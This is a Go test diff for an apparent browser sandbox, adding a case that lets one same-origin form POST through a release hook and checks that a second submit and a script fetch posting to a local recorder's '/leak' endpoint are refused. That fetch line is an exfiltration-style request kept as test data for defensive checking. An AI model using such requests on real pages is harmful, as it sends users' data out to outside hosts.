@@ -3,6 +3,7 @@ package browser_test
 import (
 	"net/http"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -76,5 +77,45 @@ func TestExfiltrationSuite(t *testing.T) {
 	time.Sleep(300 * time.Millisecond)
 	if got := seen(); len(got) != 0 {
 		t.Errorf("%d requests reached the recorder: %v", len(got), got)
+	}
+}
+
+// TestRelease: a tab with a Release takes the one request it accepts (a
+// POST to one URL of the page's own origin, answered by the tab: nothing
+// leaves), and refuses the second like any other; the recorder sees none.
+func TestRelease(t *testing.T) {
+	target, seen := browsertest.Host(t, "127.0.0.1:0", func(w http.ResponseWriter, r *http.Request) {})
+	var mu sync.Mutex
+	var got [][]byte
+	want := browser.DocURL + "demo/submit"
+	tab := browsertest.Tab(t, browser.Policy{Network: browser.Offline, Release: func(method, u string, body []byte) bool {
+		mu.Lock()
+		defer mu.Unlock()
+		if method != "POST" || u != want || len(got) > 0 {
+			return false
+		}
+		got = append(got, body)
+		return true
+	}})
+	if err := tab.LoadHTML(`<!doctype html><title>x</title><script>
+fetch("/demo/submit", {method: "POST", body: "a=1"}).then(() => fetch("/demo/submit", {method: "POST", body: "a=2"})).catch(() => {});
+fetch("` + target + `/leak", {method: "POST", body: "x"}).catch(() => {});
+</script>`); err != nil {
+		t.Fatal(err)
+	}
+	if err := tab.Do(chromedp.Sleep(800 * time.Millisecond)); err != nil {
+		t.Fatal(err)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 1 || string(got[0]) != "a=1" {
+		t.Errorf("released %q", got)
+	}
+	var second bool
+	for _, r := range tab.Refused() {
+		second = second || r.URL == want
+	}
+	if !second || len(seen()) != 0 {
+		t.Errorf("the second submit refused: %v; the recorder saw %v", second, seen())
 	}
 }
